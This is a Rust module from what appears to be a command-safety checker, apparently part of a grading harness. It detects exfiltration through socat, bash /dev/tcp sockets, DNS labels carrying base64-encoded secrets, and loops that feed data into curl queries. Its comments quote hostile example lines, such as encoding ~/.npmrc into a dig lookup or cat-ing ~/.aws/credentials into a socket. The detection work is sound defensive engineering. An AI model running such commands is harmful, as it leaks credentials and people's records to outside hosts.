//! Network sinks that carry no program's "upload" verb (holdout9 analysis, "Graded one step
//! low"): a raw socket written by any program (socat's address pairs, the shell's `/dev/tcp`
//! and `/dev/udp` redirections, also through a descriptor `exec 3<>/dev/tcp/...` opened), a
//! DNS label built by a command substitution that reads a
//! secret (the substitution's redirections read too: `dig $(base64 < ~/.npmrc).x.example`),
//! and a directory of people's records named as an export (`customer-exports/`,
//! `crm-export/`). Each is read into the one exfiltration grading of [`super::secrets`]: what is
//! sent (a secret, a dump, people's records) to where (a bare address, another party).

use super::Cmd;
use crate::shell::{RedirectKind, Script};

/// socat's address types that connect out to another host (socat(1), "ADDRESS TYPES").
const CONNECTS: &[&str] = &[
    "tcp",
    "tcp4",
    "tcp6",
    "tcp-connect",
    "tcp4-connect",
    "tcp6-connect",
    "udp",
    "udp4",
    "udp6",
    "udp-connect",
    "udp4-connect",
    "udp6-connect",
    "udp-sendto",
    "udp-datagram",
    "openssl",
    "openssl-connect",
    "ssl",
    "sctp",
    "sctp-connect",
    "dccp",
    "dccp-connect",
    "socks",
    "socks4",
    "socks4a",
    "socks5",
    "proxy",
    "proxy-connect",
];

/// socat's address types that read a file.
const READS: &[&str] = &["file", "open", "gopen", "readline"];

/// An address's type (lowercased) and its parameters.
fn address(a: &str) -> (String, &str) {
    match a.split_once(':') {
        Some((kind, rest)) => (kind.to_ascii_lowercase(), rest),
        None => (a.to_ascii_lowercase(), ""),
    }
}

/// What a socat command sends to another host: the files it reads (or stdin, `-`/`STDIN`/
/// `STDIO`) and the host it connects to. socat moves data both ways unless `-u` (first to
/// second) or `-U` (second to first).
pub fn socat_send<'c>(cmd: &Cmd<'c>) -> Option<(Vec<&'c str>, String, bool)> {
    let ops: Vec<&'c str> = cmd
        .operands(&["-b", "-t", "-T", "-lf", "-lp", "-L", "-W", "-d"])
        .collect();
    let [left, right] = ops[..] else {
        return None;
    };
    let forward = !cmd.words().any(|w| w == "-U");
    let backward = !cmd.words().any(|w| w == "-u");
    let mut pairs = Vec::new();
    if forward {
        pairs.push((left, right));
    }
    if backward {
        pairs.push((right, left));
    }
    for (from, to) in pairs {
        let (to_kind, to_rest) = address(to);
        if !CONNECTS.contains(&to_kind.as_str()) {
            continue;
        }
        // The host, without the port and the `,option` list.
        let host = to_rest
            .split(',')
            .next()
            .unwrap_or("")
            .rsplit_once(':')
            .map_or(to_rest, |(h, _)| h);
        let (from_kind, from_rest) = address(from);
        let file = from_rest.split(',').next().unwrap_or("");
        if READS.contains(&from_kind.as_str()) && !file.is_empty() {
            return Some((vec![file], host.to_owned(), false));
        }
        // A command's output (`EXEC:'cat ~/.aws/credentials'`): the files its words name.
        if matches!(from_kind.as_str(), "exec" | "system") {
            let body = from_rest.split(',').next().unwrap_or("");
            let files: Vec<&'c str> = body
                .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '<'))
                .filter(|w| super::paths::secret(w).is_some() || super::paths::dump(w))
                .collect();
            if !files.is_empty() {
                return Some((files, host.to_owned(), false));
            }
        }
        if matches!(from_kind.as_str(), "-" | "stdin" | "stdio") {
            let files: Vec<&'c str> = cmd
                .redirects
                .iter()
                .filter(|r| r.kind == RedirectKind::Read && &*r.target != "/dev/null")
                .map(|r| &*r.target)
                .collect();
            return Some((files, host.to_owned(), cmd.piped_in));
        }
    }
    None
}

/// The host a redirection to bash's `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` reaches.
pub fn socket_redirect<'c>(cmd: &Cmd<'c>) -> Option<&'c str> {
    cmd.redirects.iter().find_map(|r| {
        if r.kind == RedirectKind::Read {
            return None;
        }
        let t: &'c str = &r.target;
        let rest = t
            .strip_prefix("/dev/tcp/")
            .or_else(|| t.strip_prefix("/dev/udp/"))?;
        Some(rest.split('/').next().unwrap_or(rest))
    })
}

/// The host a descriptor this command writes to (`>&3`) reaches, when an earlier command of
/// the same script opened a descriptor on a socket (`exec 3<>/dev/tcp/HOST/PORT`). The
/// descriptor's number is not kept by the parser, so any duplicated descriptor above 2 after
/// such an `exec` is read as the socket.
pub fn socket_descriptor(cmd: &Cmd<'_>, s: &Script<'_>, index: usize) -> Option<String> {
    let writes_descriptor = cmd
        .redirects
        .iter()
        .any(|r| r.kind == RedirectKind::Duplicate && r.target.parse::<u32>().is_ok_and(|n| n > 2));
    if !writes_descriptor {
        return None;
    }
    s.commands[..index.min(s.commands.len())]
        .iter()
        .rev()
        .filter(|c| c.words.first().is_some_and(|w| w == "exec") && c.words.len() == 1)
        .find_map(|c| {
            c.redirects.iter().find_map(|r| {
                let rest = r
                    .target
                    .strip_prefix("/dev/tcp/")
                    .or_else(|| r.target.strip_prefix("/dev/udp/"))?;
                Some(rest.split('/').next().unwrap_or(rest).to_owned())
            })
        })
}

/// What a command whose output goes to a socket sends: its operands and the files its
/// redirections read (a program that reads files prints them).
pub fn socket_redirect_files<'c>(cmd: &Cmd<'c>) -> Vec<&'c str> {
    let mut files: Vec<&'c str> = cmd.operands(&[]).collect();
    files.extend(
        cmd.redirects
            .iter()
            .filter(|r| r.kind == RedirectKind::Read)
            .map(|r| &*r.target),
    );
    files
}

/// Whether a command substitution's body reads a secret: one of its words, or a file one of
/// its redirections reads (`$(base64 < ~/.npmrc | tr -d =)`).
pub fn body_reads_secret(body: &str) -> bool {
    crate::shell::parse(body).commands.iter().any(|c| {
        c.words.iter().any(|w| super::paths::secret(w).is_some())
            || c.redirects
                .iter()
                .any(|r| r.kind == RedirectKind::Read && super::paths::secret(&r.target).is_some())
    })
}

/// Whether a file or directory name says it is an export of people's records: a word for
/// people (singular or plural, or a CRM) and a word for an export, dump or backup
/// (`customer-exports/`, `crm-export`, `member_dump.tar`).
pub fn export_of_people(name: &str) -> bool {
    let mut person = false;
    let mut export = false;
    for w in name
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty())
    {
        let w = w.to_ascii_lowercase();
        let w = w.strip_suffix('s').unwrap_or(&w);
        person |= matches!(
            w,
            "customer"
                | "user"
                | "member"
                | "patient"
                | "subscriber"
                | "crm"
                | "contact"
                | "employee"
                | "lead"
        );
        export |= matches!(w, "export" | "dump" | "backup" | "extract" | "snapshot");
    }
    person && export
}

/// The text xargs replaces with each input item (`-I {}`, `-I{}`, `--replace=R`, `-i` for
/// `{}`), when the command runs under `xargs` with one.
fn xargs_replacement<'c>(cmd: &Cmd<'c>) -> Option<&'c str> {
    let at = cmd
        .prefix
        .iter()
        .position(|w| super::program_name(w) == "xargs")?;
    let mut words = cmd.prefix[at + 1..].iter().map(|w| &**w);
    while let Some(w) = words.next() {
        if w == "-I" {
            return words.next();
        }
        if let Some(r) = w
            .strip_prefix("--replace=")
            .or_else(|| w.strip_prefix("-I"))
        {
            return Some(if r.is_empty() { "{}" } else { r });
        }
        if w == "-i" || w == "--replace" {
            return Some("{}");
        }
    }
    None
}

/// Whether what is piped into the command's loop or xargs becomes part of its words: an
/// `xargs -I{}` replacement inside one (`xargs -I{} curl "https://x/?text={}"`), or the
/// variable of a `while read` loop (`while read l; do curl "...$l"; done`). The command then
/// sends what it is fed, as if on its stdin.
pub fn fed_into_words(cmd: &Cmd<'_>, s: &Script<'_>, index: usize) -> bool {
    if cmd.more_args
        && let Some(r) = xargs_replacement(cmd)
        && cmd.words().any(|w| carried_as_data(w, r))
    {
        return true;
    }
    read_variable_used(cmd, s, index, true).is_some()
}

/// Whether `item` sits in a word as data (a query's or a field's value: after `?`, `=` or
/// `&`), not as the address fetched (`curl -sI {}`, `curl "$u"` only fetch each item).
fn carried_as_data(word: &str, item: &str) -> bool {
    word.match_indices(item)
        .any(|(i, _)| word[..i].contains(['?', '=', '&']))
}

/// The `read` command (its index) whose variable the command uses (`$l`, `${l}`); with
/// `as_data`, only as a query's or a field's value ([`carried_as_data`]).
fn read_variable_used(cmd: &Cmd<'_>, s: &Script<'_>, index: usize, as_data: bool) -> Option<usize> {
    s.commands[..index.min(s.commands.len())]
        .iter()
        .enumerate()
        .rev()
        .find_map(|(k, c)| {
            if c.words.first().is_none_or(|w| w != "read") {
                return None;
            }
            c.words[1..]
                .iter()
                .filter(|v| !v.starts_with('-') && !v.is_empty())
                .any(|v| {
                    cmd.words().any(|w| {
                        super::uses_var(w, v)
                            && (!as_data
                                || carried_as_data(w, &format!("${v}"))
                                || carried_as_data(w, &format!("${{{v}}}")))
                    })
                })
                .then_some(k)
        })
}

/// What feeds the `while read` loop whose variable the command uses, by `feeds` (a secret
/// read, a dump): a stage piped into the `read`, or the file the loop's `done < FILE` reads.
pub fn loop_feeder(
    cmd: &Cmd<'_>,
    s: &Script<'_>,
    index: usize,
    feeds: &dyn Fn(&crate::shell::Command<'_>) -> Option<String>,
) -> Option<String> {
    // Under xargs, the items come from the command's own pipe (its upstream), not a loop.
    if cmd.more_args {
        return None;
    }
    let at = read_variable_used(cmd, s, index, false)?;
    let reader = &s.commands[at];
    if reader.piped_in
        && let Some(found) = s.commands[..at]
            .iter()
            .rev()
            .filter(|c| c.pipeline == reader.pipeline)
            .find_map(feeds)
    {
        return Some(found);
    }
    s.commands[index + 1..].iter().find_map(|c| {
        if !c.words.is_empty() {
            return None;
        }
        c.redirects.iter().find_map(|r| {
            (r.kind == RedirectKind::Read)
                .then(|| {
                    super::paths::secret(&r.target).map(|what| format!("{} ({what})", r.target))
                })
                .flatten()
        })
    })
}
